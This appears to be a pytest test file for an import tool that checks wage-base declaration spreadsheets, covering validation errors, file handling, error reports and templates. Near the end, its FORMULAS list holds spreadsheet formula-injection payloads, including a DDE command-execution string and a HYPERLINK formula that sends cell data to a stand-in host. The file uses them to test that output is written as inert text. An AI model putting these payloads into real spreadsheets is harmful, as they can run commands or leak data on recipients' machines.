from __future__ import annotations

import dataclasses
import datetime as dt
import gc
import io
import struct
from collections.abc import Sequence
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
import xlsxwriter

from client.core import uploads
from client.core.wage_import import (
    MAX_ROWS,
    Enrolled,
    ImportResult,
    import_file,
    read_table,
    validate,
)
from client.core.wage_report import write_error_report, write_template
from client.errors import ValidationError
from rules.codes import id_check_char


def make_id(serial: int, birth: str = "19900101", area: str = "410102") -> str:
    body = f"{area}{birth}{serial % 1000:03d}"
    return body + id_check_char(body)


def make_people(n: int) -> list[Enrolled]:
    return [
        Enrolled(
            employee_id=f"E{i:06d}",
            name=f"职工{i}",
            id_type="201",
            id_number=make_id(i % 1000, birth=f"19{50 + i // 1000 % 50:02d}0101"),
            unit_number=f"U{i:04d}",
            status="正常缴费",
            current_base="6000.00",
        )
        for i in range(n)
    ]


PEOPLE = make_people(20)
PASSPORT = Enrolled("P1", "John Smith", "208", "E12345678", "U9", "正常缴费", "9000.00")
ENROLLED = {p.id_number: p for p in [*PEOPLE, PASSPORT]}


@dataclass
class Rules:
    kind: str = "daily"

    def check_month(self, month: str) -> str | None:
        return "生效年月不能早于 202401" if month < "202401" else None

    def check_base(self, month: str | None, base: Decimal) -> str | None:
        if base < 4000:
            return "低于缴费工资下限 4000.00 元，将按下限缴费"
        if base > 30000:
            return "高于缴费工资上限 30000.00 元，将按上限缴费"
        return None


DAILY, ANNUAL = Rules("daily"), Rules("annual")
HEADER = ["姓名", "证件类型", "证件号码", "新缴费工资", "生效年月"]


def xlsx(rows: Sequence[Sequence[object]], text_columns: Sequence[int] = ()) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    for row in rows:
        sheet.append(list(row))
    for column in sheet.iter_cols():
        for c in column:
            if c.column - 1 in text_columns and isinstance(c.value, str):
                c.number_format = "@"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def csv_bytes(rows: Sequence[Sequence[object]], encoding: str = "utf-8-sig") -> bytes:
    lines = [",".join("" if v is None else str(v) for v in row) for row in rows]
    return ("\r\n".join(lines) + "\r\n").encode(encoding)


def problems_of(result: ImportResult) -> set[tuple[int, str, str]]:
    return {(p.row, p.column, p.severity) for p in result.problems}


def file_error(data: bytes, name: str = "x.xlsx", kind: str = "daily") -> str:
    with pytest.raises(ValidationError) as info:
        read_table(data, name, kind=kind)
    assert info.value.field == "file"
    return info.value.message


# ---------------------------------------------------------------- good rows


def test_good_rows_xlsx() -> None:
    p = PEOPLE
    rows = [
        HEADER,
        [p[0].name, "居民身份证", p[0].id_number, 8000, "202503"],
        [p[1].name, "201", p[1].id_number, 8000.1, "2025-03"],
        [None, None, " " + p[2].id_number[:6] + " " + p[2].id_number[6:], "8,000.5", "2025/3"],
        [
            p[3].name,
            "",
            p[3].id_number.translate(str.maketrans("0123456789", "０１２３４５６７８９")),
            "８０００",
            "2025年3月",
        ],
        [p[4].name, None, p[4].id_number, "12000.00元", dt.datetime(2025, 4, 1)],
        [p[5].name, None, p[5].id_number, Decimal("5000"), 202505],
        [p[6].name, None, p[6].id_number, 5000, 202506.0],
        [p[7].name, None, p[7].id_number, 5000, "2025.07"],
        ["John Smith", "外国护照", "e12345678", 9500, "2025-08-01"],
    ]
    rows[6][3] = 5000  # openpyxl cannot write Decimal
    result = import_file(xlsx(rows), "工资.xlsx", ENROLLED, DAILY)
    assert result.problems == []
    assert result.total_rows == 9
    got = [(r.row, r.employee_id, r.new_base, r.effective_month) for r in result.rows]
    assert got == [
        (2, "E000000", "8000.00", "202503"),
        (3, "E000001", "8000.10", "202503"),
        (4, "E000002", "8000.50", "202503"),
        (5, "E000003", "8000.00", "202503"),
        (6, "E000004", "12000.00", "202504"),
        (7, "E000005", "5000.00", "202505"),
        (8, "E000006", "5000.00", "202506"),
        (9, "E000007", "5000.00", "202507"),
        (10, "P1", "9500.00", "202508"),
    ]
    first = result.rows[0]
    assert (first.name, first.id_type, first.unit_number, first.current_base) == (
        "职工0", "201", "U0000", "6000.00",
    )  # fmt: skip
    assert result.rows[-1].id_type == "208" and result.rows[-1].id_number == "E12345678"


def test_passport_without_type_column_uses_enrolled_type() -> None:
    rows = [["证件号码", "缴费工资"], ["E12345678", 9000]]
    result = import_file(xlsx(rows), "a.xlsx", ENROLLED, ANNUAL)
    assert result.problems == [] and result.rows[0].id_type == "208"


def test_annual_ignores_month_column() -> None:
    rows = [HEADER, [None, None, PEOPLE[0].id_number, 7000, "not a month"]]
    result = import_file(xlsx(rows), "a.xlsx", ENROLLED, ANNUAL)
    assert result.problems == []
    assert result.rows[0].effective_month == ""
    assert "effective_month" not in result.table.columns


def test_title_rows_extra_columns_blank_rows_and_header_synonyms() -> None:
    rows = [
        ["2025年度缴费工资申报表"],
        ["单位：某某公司", None, None, "制表日期：2025-03-01"],
        [],
        ["序号", "＊姓 名", "身份证号码", "部门", "缴费基数（元）", "生效月份", "备注"],
        [1, PEOPLE[0].name, PEOPLE[0].id_number, "财务", 8000, "202503", "x"],
        [],
        [None, None, None, "   ", None],
        [2, PEOPLE[1].name, PEOPLE[1].id_number, "人事", "abc", "202503", None],
    ]
    table = read_table(xlsx(rows), "a.xlsx", kind="daily")
    assert table.header_row == 4
    assert table.columns == {"name": 1, "id_number": 2, "base": 4, "effective_month": 5}
    assert [r for r, _ in table.rows] == [5, 8]
    result = validate(table, ENROLLED, DAILY)
    assert [r.row for r in result.rows] == [5]
    assert problems_of(result) == {(8, "缴费基数（元）", "error")}


# ---------------------------------------------------------------- row errors


def test_every_row_error_with_row_and_column() -> None:
    p = PEOPLE
    not_enrolled = make_id(999, birth="19800101")
    lost = p[9].id_number[:15] + "000"
    if lost == p[9].id_number:  # pragma: no cover - the check digit happened to fit
        lost = p[10].id_number[:15] + "000"
    rows = [
        HEADER,
        [p[0].name, None, None, 8000, "202503"],  # 2 ID missing
        [p[1].name, None, 4.10102199001011e17, 8000, "202503"],  # 3 numeric ID
        [p[2].name, None, "4.10102E+17", 8000, "202503"],  # 4 scientific text
        [p[3].name, None, lost, 8000, "202503"],  # 5 trailing 000
        [p[4].name, None, p[4].id_number[:6] + p[4].id_number[8:17], 8000, "202503"],  # 6 15 digits
        [
            p[5].name,
            None,
            p[5].id_number[:17] + ("0" if p[5].id_number[17] != "0" else "1"),
            8000,
            "202503",
        ],  # 7
        [None, None, not_enrolled, 8000, "202503"],  # 8 not enrolled
        ["张三", None, p[6].id_number, 8000, "202503"],  # 9 name differs
        [None, None, p[7].id_number, 8000, "202503"],  # 10 first of a duplicate: fine
        [None, None, p[7].id_number.lower(), 8000, "202503"],  # 11 duplicate of row 10
        [None, None, p[8].id_number, None, "202503"],  # 12 base missing
        [None, None, p[11].id_number, "八千", "202503"],  # 13 base not a number
        [None, None, p[12].id_number, -1, "202503"],  # 14 negative
        [None, None, p[13].id_number, 8000.123, "202503"],  # 15 three decimals
        [None, None, p[14].id_number, "8000.001", "202503"],  # 16 three decimals as text
        [None, None, p[15].id_number, 8000, None],  # 17 month missing
        [None, None, p[16].id_number, 8000, "2025-13"],  # 18 month malformed
        [None, None, p[17].id_number, 8000, "202312"],  # 19 month out of range (rules)
        [None, "军官证", p[18].id_number, 8000, "202503"],  # 20 unknown ID type
        [None, "外国护照", p[19].id_number, 8000, "202503"],  # 21 type differs from enrolled
    ]
    result = import_file(xlsx(rows, text_columns=(2,)), "a.xlsx", ENROLLED, DAILY)
    by_row = {(p.row, p.column): p for p in result.problems}
    expected = {
        (2, "证件号码"): "证件号码未填写",
        (3, "证件号码"): "证件号码被保存为数字，后几位已丢失（410102199001011000）",
        (4, "证件号码"): "证件号码被保存为数字，后几位已丢失（4.10102E+17）",
        (5, "证件号码"): "后几位变成了 000",
        (6, "证件号码"): "只有 15 位",
        (7, "证件号码"): "证件号码校验位错误",
        (8, "证件号码"): "该职工不在本单位参保（请先更新职工参保信息）",
        (9, "姓名"): "姓名与证件号码不符（本单位参保信息中为「职工6」）",
        (11, "证件号码"): "与第 10 行重复",
        (12, "新缴费工资"): "新缴费工资未填写",
        (13, "新缴费工资"): "新缴费工资不是数字",
        (14, "新缴费工资"): "新缴费工资不能为负数",
        (15, "新缴费工资"): "最多保留两位小数",
        (16, "新缴费工资"): "最多保留两位小数",
        (17, "生效年月"): "生效年月未填写",
        (18, "生效年月"): "生效年月格式不正确（「2025-13」）",
        (19, "生效年月"): "生效年月不能早于 202401",
        (20, "证件类型"): "证件类型不正确",
        (21, "证件类型"): "证件类型与本单位参保信息不符（参保信息中为「居民身份证」）",
    }
    assert set(by_row) == set(expected)
    for key, text in expected.items():
        assert text in by_row[key].message, (key, by_row[key].message)
        assert by_row[key].severity == "error"
    assert "请把该列设为文本后重新填写" in by_row[(3, "证件号码")].message
    assert by_row[(3, "证件号码")].value == "410102199001011000"
    assert by_row[(15, "新缴费工资")].value == "8000.123"
    assert [r.row for r in result.rows] == [10]
    assert result.error_rows == set(range(2, 22)) - {10}
    assert (
        by_row[(9, "姓名")].text
        == "第 9 行「姓名」：姓名与证件号码不符（本单位参保信息中为「职工6」）"
    )


def test_several_problems_on_one_row_all_reported() -> None:
    rows = [HEADER, ["某人", None, make_id(998, "19800101"), "x", "y"]]
    result = import_file(xlsx(rows), "a.xlsx", ENROLLED, DAILY)
    assert problems_of(result) == {
        (2, "证件号码", "error"),
        (2, "新缴费工资", "error"),
        (2, "生效年月", "error"),
    }
    assert result.rows == []


def test_warnings_are_imported_with_message() -> None:
    p = PEOPLE
    rows = [
        HEADER,
        [None, None, p[0].id_number, 0, "202503"],
        [None, None, p[1].id_number, 3000, "202503"],
        [None, None, p[2].id_number, 40000, "202503"],
    ]
    result = import_file(xlsx(rows), "a.xlsx", ENROLLED, DAILY)
    assert result.error_rows == set()
    assert [r.row for r in result.rows] == [2, 3, 4]
    assert result.rows[0].new_base == "0.00"
    assert result.rows[0].warning.startswith("新缴费工资为 0，提交时需确认；低于")
    assert "下限" in result.rows[1].warning and "上限" in result.rows[2].warning
    assert {(w.row, w.column) for w in result.warnings} == {
        (2, "新缴费工资"), (3, "新缴费工资"), (4, "新缴费工资"),
    }  # fmt: skip


def test_float_noise_from_formulas_reads_as_excel_shows_it() -> None:
    rows = [HEADER, [None, None, PEOPLE[0].id_number, 0.1 + 0.2 + 7999.7, "202503"]]
    result = import_file(xlsx(rows), "a.xlsx", ENROLLED, DAILY)
    assert result.rows[0].new_base == "8000.00"


# ---------------------------------------------------------------- csv


@pytest.mark.parametrize("encoding", ["utf-8-sig", "gb18030"])
def test_csv_encodings(encoding: str) -> None:
    p = PEOPLE
    rows = [
        ["缴费工资申报"],  # a one-cell title line: ragged csv
        ["姓名", "证件号码", "缴费工资", "生效年月"],
        [p[0].name, p[0].id_number, "8000", "2025-03"],
        [],
        [p[1].name, "4.10102E+17", "8000", "2025-03"],
        ["张三", p[2].id_number, "8000", "2025-03"],
    ]
    result = import_file(csv_bytes(rows, encoding), "a.csv", ENROLLED, DAILY)
    assert result.table.header_row == 2
    assert [r.row for r in result.rows] == [3]
    assert problems_of(result) == {(5, "证件号码", "error"), (6, "姓名", "error")}


def test_csv_without_title_and_short_rows() -> None:
    data = ("证件号码,新缴费工资,生效年月\n" + PEOPLE[0].id_number + ",8000\n").encode()
    result = import_file(data, "a.csv", ENROLLED, DAILY)
    assert problems_of(result) == {(2, "生效年月", "error")}


def test_content_decides_not_the_extension() -> None:
    rows = [HEADER, [None, None, PEOPLE[0].id_number, 8000, "202503"]]
    assert len(import_file(xlsx(rows), "工资.csv", ENROLLED, DAILY).rows) == 1
    data = csv_bytes(rows)
    assert len(import_file(data, "工资.xlsx", ENROLLED, DAILY).rows) == 1


# ---------------------------------------------------------------- file errors


def ole2(*stream_names: str) -> bytes:
    """A minimal OLE2 compound file: header sector plus one directory sector."""
    header = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16) + struct.pack("<HH", 0x3E, 3)
    header = header.ljust(512, b"\x00")
    entries = b""
    for name in ("Root Entry", *stream_names):
        raw = name.encode("utf-16-le") + b"\x00\x00"
        entries += (raw.ljust(64, b"\x00") + struct.pack("<H", len(raw))).ljust(128, b"\x00")
    return header + entries.ljust(512, b"\x00")


def test_encrypted_file() -> None:
    message = file_error(ole2("EncryptionInfo", "EncryptedPackage"))
    assert message == "文件已加密（设置了打开密码），请取消密码后重新导入"
    assert "已加密" in file_error(ole2("EncryptedPackage"), name="a.xls")


@pytest.mark.parametrize(
    "data",
    [
        b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj",
        b"\x89PNG\r\n\x1a\n\x00\x00",
        b"<html><table><tr><td>1</td></tr></table></html>",
        bytes(range(256)) * 4,
        ole2("WordDocument"),
    ],
)
def test_not_a_spreadsheet(data: bytes) -> None:
    assert file_error(data) == "文件不是 Excel 或 CSV 表格，请另存为 .xlsx 后重新导入"


def test_docx_is_not_a_spreadsheet() -> None:
    import zipfile

    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("word/document.xml", "<w/>")
    assert "不是 Excel" in file_error(out.getvalue())


def test_corrupt_files() -> None:
    good = xlsx([HEADER, ["a", None, PEOPLE[0].id_number, 1, "202503"]])
    assert file_error(good[: len(good) // 2]).startswith("文件已损坏，无法读取")
    broken = good.replace(b"xl/worksheets/sheet1.xml", b"xl/worksheets/sheetX.xml")
    assert file_error(broken).startswith("文件已损坏")
    assert file_error(ole2("Workbook"), name="a.xls").startswith("文件已损坏")


@pytest.mark.parametrize(
    ("data", "name"),
    [
        (b"", "a.xlsx"),
        (b"   \r\n\r\n", "a.csv"),
        (xlsx([]), "a.xlsx"),
        (xlsx([HEADER]), "a.xlsx"),
        (xlsx([["标题"], HEADER, [], [None, "  "]]), "a.xlsx"),
        ("证件号码,缴费工资,生效年月\n,,\n".encode(), "a.csv"),
    ],
)
def test_empty(data: bytes, name: str) -> None:
    message = file_error(data, name)
    assert "没有" in message and "数据" in message


def test_too_many_rows() -> None:
    line = PEOPLE[0].id_number + ",8000,202503\n"
    data = ("证件号码,缴费工资,生效年月\n" + line * (MAX_ROWS + 1)).encode()
    message = file_error(data, "a.csv")
    assert "最多 200,000 行，本文件有 200,001 行" in message
    ok = ("证件号码,缴费工资,生效年月\n" + line * MAX_ROWS).encode()
    assert len(read_table(ok, "a.csv", kind="daily").rows) == MAX_ROWS


def test_missing_columns() -> None:
    message = file_error(xlsx([["姓名", "证件号码", "新缴费工资"], ["a", "b", 1]]))
    assert message.startswith("未找到「生效年月」列")
    assert "姓名、证件类型、证件号码、新缴费工资、生效年月" in message
    message = file_error(xlsx([["姓名", "工资"], ["a", 1]]), kind="annual")
    assert "未找到「证件号码」列" in message and "未找到「新缴费工资」列" in message
    assert "身份证号" in message  # the synonyms are listed
    # The same file is fine for the annual declaration.
    read_table(xlsx([["证件号码", "新缴费工资"], ["b", 1]]), "a.xlsx", kind="annual")


def test_xls_when_a_writer_is_available(tmp_path: Path) -> None:
    xlwt = pytest.importorskip("xlwt")
    book = xlwt.Workbook()
    sheet = book.add_sheet("s")
    for r, row in enumerate([HEADER, [None, None, PEOPLE[0].id_number, 8000, "202503"]]):
        for c, value in enumerate(row):
            if value is not None:
                sheet.write(r, c, value)
    target = tmp_path / "a.xls"
    book.save(str(target))
    result = import_file(target.read_bytes(), "a.xls", ENROLLED, DAILY)
    assert result.problems == [] and result.rows[0].new_base == "8000.00"


# ---------------------------------------------------------------- error report


def test_error_report_highlights(tmp_path: Path) -> None:
    p = PEOPLE
    rows = [
        ["缴费工资申报"],
        ["姓名", "证件号码", "部门", "新缴费工资", "生效年月"],
        [p[0].name, p[0].id_number, "财务", 8000, "202503"],  # 3 fine
        [p[1].name, 4.10102199001011e17, "财务", "abc", "202503"],  # 4 two errors
        [p[2].name, p[2].id_number, "人事", 100, "202503"],  # 5 warning
        ["张三", p[3].id_number, "人事", 5000, dt.date(2025, 3, 1)],  # 6 name error
    ]
    result = import_file(xlsx(rows), "a.xlsx", ENROLLED, DAILY)
    target = tmp_path / "report.xlsx"
    write_error_report(result, target)
    sheet = openpyxl.load_workbook(target).active
    values = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert values[1] == ["姓名", "证件号码", "部门", "新缴费工资", "生效年月", "错误原因"]
    assert [r[0] for r in values[2:]] == [p[1].name, p[2].name, "张三"]
    assert values[2][1] == "410102199001011000"  # the ID as text
    assert values[2][5] == (
        "证件号码：证件号码被保存为数字，后几位已丢失（410102199001011000）。"
        "请把该列设为文本后重新填写；新缴费工资：新缴费工资不是数字"
    )
    assert values[3][3] == 100 and "低于缴费工资下限" in values[3][5]
    assert values[4][1] == p[3].id_number and values[4][4] == "2025-03-01"

    def fill(cell: str) -> str | None:
        color = sheet[cell].fill.fgColor.rgb if sheet[cell].fill.fill_type else None
        return color[-6:] if isinstance(color, str) else None

    assert fill("B3") == "FFC7CE" and fill("D3") == "FFC7CE" and fill("A3") is None
    assert fill("D4") == "FFEB9C" and fill("B4") is None
    assert fill("A5") == "FFC7CE" and fill("B5") is None
    assert sheet["B3"].data_type == "s" and sheet["B3"].number_format == "@"


# ---------------------------------------------------------------- template


@pytest.mark.parametrize("kind", ["daily", "annual"])
def test_template_round_trip(tmp_path: Path, kind: str) -> None:
    target = tmp_path / "template.xlsx"
    people = [*PEOPLE[:3], PASSPORT]
    write_template(target, kind, people)
    book = openpyxl.load_workbook(target)
    assert book.sheetnames == ["缴费工资申报", "填写说明"]
    sheet = book["缴费工资申报"]
    header = [c.value for c in sheet[1]]
    expected = ["姓名", "证件类型", "证件号码", "新缴费工资"]
    expected += ["生效年月"] if kind == "daily" else []
    assert header == [*expected, "单位编号", "当前缴费工资"]
    assert sheet.column_dimensions["C"].number_format == "@"
    assert sheet["C2"].value == PEOPLE[0].id_number and sheet["C2"].data_type == "s"
    assert sheet.cell(2, len(header)).value == "6000.00"
    assert sheet["D2"].value is None
    if kind == "daily":
        assert sheet.column_dimensions["E"].number_format == "@"
    # The clerk fills in the new base (and month) and imports the same file.
    for r in range(2, 6):
        sheet.cell(r, 4).value = 8000 + r
        if kind == "daily":
            sheet.cell(r, 5).value = "202503"
    filled = io.BytesIO()
    book.save(filled)
    result = import_file(filled.getvalue(), "template.xlsx", ENROLLED, Rules(kind))
    assert result.problems == []
    assert [(r.employee_id, r.new_base) for r in result.rows] == [
        ("E000000", "8002.00"), ("E000001", "8003.00"), ("E000002", "8004.00"), ("P1", "8005.00"),
    ]  # fmt: skip
    assert {r.effective_month for r in result.rows} == ({"202503"} if kind == "daily" else {""})


def test_empty_template_has_header_only(tmp_path: Path) -> None:
    target = tmp_path / "t.xlsx"
    write_template(target, "daily")
    sheet = openpyxl.load_workbook(target)["缴费工资申报"]
    assert sheet.max_row == 1
    assert "没有职工行" in file_error(target.read_bytes())


# ---------------------------------------------------------------- speed


def test_fifty_thousand_rows(tmp_path: Path) -> None:
    """50,000 rows read and checked whole (speed is bench/wage_base.py's import_50k: tests
    never assert on wall-clock time)."""
    people = make_people(50_000)
    enrolled = {p.id_number: p for p in people}
    out = io.BytesIO()
    book = xlsxwriter.Workbook(out, {"constant_memory": True, "in_memory": True})
    sheet = book.add_worksheet()
    sheet.write_row(0, 0, HEADER)
    for n, person in enumerate(people, start=1):
        sheet.write_row(n, 0, [person.name, "居民身份证", person.id_number, 8000, "202503"])
    book.close()
    table = read_table(out.getvalue(), "big.xlsx", kind="daily")
    result = validate(table, enrolled, DAILY)
    assert len(result.rows) == 50_000 and result.problems == []
    assert {r.id_number for r in result.rows} == set(enrolled)


# ---------------------------------------------------------------- text stays text

FORMULAS = ['=HYPERLINK("http://x/?"&B2,"点击")', "=cmd|' /C calc'!A0", "@SUM(1)", "+1+2", "-3+4", "=1+1"]


def assert_no_formula(path: Path) -> openpyxl.worksheet.worksheet.Worksheet:
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for c in row:
                assert c.data_type != "f", (sheet.title, c.coordinate, c.value)
    return book.worksheets[0]


def test_error_report_writes_formula_text_as_text(tmp_path: Path) -> None:
    p = PEOPLE
    rows = [
        ["=HYPERLINK(\"http://x/\",\"表\")", "姓名", "证件号码", "新缴费工资", "生效年月", "备注"],
        [FORMULAS[0], p[0].name, p[0].id_number, "=1+1", "202503", FORMULAS[1]],
        [FORMULAS[2], FORMULAS[3], p[1].id_number, 100, "202503", FORMULAS[4]],
        [None, "x", 4.10102199001011e17, 8000, FORMULAS[5], "http://example.com/"],
    ]
    # Text cells holding "=..." (as Excel keeps text typed after an apostrophe), not formulas.
    from tests.core.hostile_files import row_xml, sheet_xml, write_xlsx

    source = write_xlsx(tmp_path / "in.xlsx", sheet_xml(row_xml(n, r) for n, r in enumerate(rows, 1)))
    result = import_file(source.read_bytes(), "=evil.xlsx", ENROLLED, DAILY)
    assert result.error_rows == {2, 3, 4}
    target = tmp_path / "report.xlsx"
    write_error_report(result, target)
    sheet = assert_no_formula(target)
    values = [list(r) for r in sheet.iter_rows(values_only=True)]
    assert values[1][0] == '=HYPERLINK("http://x/","表")'
    assert values[2][0] == FORMULAS[0] and values[2][3] == "=1+1" and values[2][5] == FORMULAS[1]
    assert values[3][:2] == [FORMULAS[2], FORMULAS[3]] and values[3][5] == FORMULAS[4]
    assert values[3][3] == 100 and sheet["D4"].data_type == "n"  # amounts stay numbers
    assert values[4][4] == FORMULAS[5] and values[4][5] == "http://example.com/"
    for r in range(3, 6):
        assert sheet.cell(r, 3).data_type == "s"  # the ID column is text
    assert values[4][2] == "410102199001011000"
    assert not sheet._hyperlinks


def test_template_writes_names_as_text(tmp_path: Path) -> None:
    people = [Enrolled("E1", FORMULAS[0], "201", PEOPLE[0].id_number, "=U1", "正常缴费", "6000.00")]
    target = tmp_path / "t.xlsx"
    write_template(target, "daily", people)
    sheet = assert_no_formula(target)
    assert sheet["A2"].value == FORMULAS[0] and sheet["F2"].value == "=U1"
    assert sheet["C2"].data_type == "s" and sheet["C2"].value == PEOPLE[0].id_number


def test_control_characters_in_report(tmp_path: Path) -> None:
    rows = [HEADER, ["a\x01b\x1f", None, "x\x02y", "8\x0b000", "202503"]]
    result = import_file(csv_bytes(rows), "a.csv", ENROLLED, DAILY)
    target = tmp_path / "r.xlsx"
    write_error_report(result, target)
    assert_no_formula(target)


def test_imported_rows_are_whole_immutable_rows() -> None:
    from client.core.wage_import import ImportedRow

    rows = [HEADER, [PEOPLE[0].name, None, PEOPLE[0].id_number, 8000, "202503"]]
    got = import_file(xlsx(rows), "a.xlsx", ENROLLED, DAILY).rows[0]
    # Built with tuple.__new__ in validate: every field there, in order, and nothing more.
    assert type(got) is ImportedRow and len(got) == len(ImportedRow._fields)
    assert got == ImportedRow(2, "E000000", "职工0", "201", PEOPLE[0].id_number, "U0000", "6000.00",
                              "8000.00", "202503", "")
    assert (got.row, got.new_base, got.effective_month, got.warning) == (2, "8000.00", "202503", "")
    with pytest.raises(AttributeError):
        got.new_base = "1"  # type: ignore[misc]


@dataclass
class GcWatch(Rules):
    """Rules that note whether cyclic collection ran on while the rows were checked."""

    seen: list[bool] = dataclasses.field(default_factory=list)

    def check_month(self, month: str) -> str | None:
        self.seen.append(gc.isenabled())
        return super().check_month(month)


@pytest.mark.parametrize("enabled_before", [True, False])
def test_import_pauses_garbage_collection_and_leaves_it_as_it_was(enabled_before: bool) -> None:
    rules = GcWatch("daily")
    rows = [HEADER, [PEOPLE[0].name, None, PEOPLE[0].id_number, 8000, "202503"]]
    (gc.enable if enabled_before else gc.disable)()
    try:
        with uploads.gc_paused():  # an import inside another (another thread's) keeps it paused
            assert len(import_file(xlsx(rows), "a.xlsx", ENROLLED, rules).rows) == 1
            assert not gc.isenabled()
        assert rules.seen == [False]
        assert gc.isenabled() is enabled_before
    finally:
        gc.enable()
